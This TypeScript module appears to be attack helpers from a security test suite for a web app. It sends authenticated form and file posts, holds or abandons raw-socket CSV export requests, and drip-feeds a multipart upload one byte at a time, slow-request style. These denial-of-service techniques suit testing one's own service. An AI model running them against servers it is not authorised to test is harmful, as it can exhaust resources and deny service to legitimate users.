import { request } from "node:http";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

/** A server under attack, and who is signed in there. */
export type Target = { url: string; cookie: string; file: string };

/** The status of the answer to a form; fields, or the body as it is. */
export async function postForm(
  { url, cookie }: Target,
  path: string,
  form: Record<string, string> | FormData | string,
): Promise<number> {
  const plain = typeof form === "string";
  const response = await fetch(url + path, {
    method: "POST",
    redirect: "manual",
    headers: {
      Cookie: cookie,
      ...(plain && { "Content-Type": "application/x-www-form-urlencoded" }),
    },
    body: plain || form instanceof FormData ? form : new URLSearchParams(form),
  });
  await response.arrayBuffer();
  return response.status;
}

/** Files of these names and contents beside fields, as a browser without JavaScript sends them. */
export function fileForm(
  fields: Record<string, string>,
  field: string,
  files: Record<string, string>,
): FormData {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.set(name, value);
  for (const [name, text] of Object.entries(files)) form.append(field, new Blob([text]), name);
  return form;
}

/** Asks for exports and never reads six, and asks for twenty more and hangs up as soon as each has begun. */
export async function abandonExports({ url, cookie }: Target): Promise<string> {
  const { hostname, port } = new URL(url);
  const ask = (whenBegun: (socket: ReturnType<typeof connect>) => void) =>
    new Promise<string>((resolve, reject) => {
      const socket = connect(Number(port), hostname);
      socket.once("error", reject);
      socket.once("data", (chunk) => {
        socket.removeListener("error", reject);
        socket.on("error", () => {});
        whenBegun(socket);
        resolve(String(chunk).split(" ", 2)[1] ?? "");
      });
      socket.write(
        `GET /candidates.csv HTTP/1.1\r\nHost: ${hostname}:${port}\r\nCookie: ${cookie}\r\n\r\n`,
      );
    });
  const held: ReturnType<typeof connect>[] = [];
  const statuses: string[] = [];
  for (let i = 0; i < 6; i++)
    statuses.push(
      await ask((socket) => {
        socket.pause();
        held.push(socket);
      }),
    );
  await sleep(3000);
  for (const socket of held) socket.destroy();
  for (let i = 0; i < 20; i++) statuses.push(await ask((socket) => socket.destroy()));
  await sleep(3000);
  const counts = [...new Set(statuses)].map(
    (status) => `${statuses.filter((one) => one === status).length} x ${status}`,
  );
  return counts.join(", ");
}

/** Sends a form of so many bytes in chunks of one byte; the status of the answer. */
export function sendSlowly({ url, cookie }: Target, path: string, bytes: number): Promise<string> {
  const boundary = "b";
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="Comments.csv"\r\n\r\nDate,Link,Message\n`;
  const tail = `\r\n--${boundary}--\r\n`;
  return new Promise((resolve, reject) => {
    const sending = request(
      url + path,
      {
        method: "POST",
        headers: { Cookie: cookie, "Content-Type": `multipart/form-data; boundary=${boundary}` },
      },
      (response) => {
        response.resume();
        response.once("end", () => resolve(String(response.statusCode)));
      },
    );
    sending.once("error", reject);
    sending.setNoDelay(true);
    sending.write(head);
    let sent = 0;
    const go = () => {
      // The chunks of one turn travel together, each still a chunk of its own to whoever reads them.
      for (let turn = 0; turn < 512 && sent < bytes; turn++, sent++) sending.write("a");
      if (sent < bytes) setImmediate(go);
      else sending.end(tail);
    };
    go();
  });
}
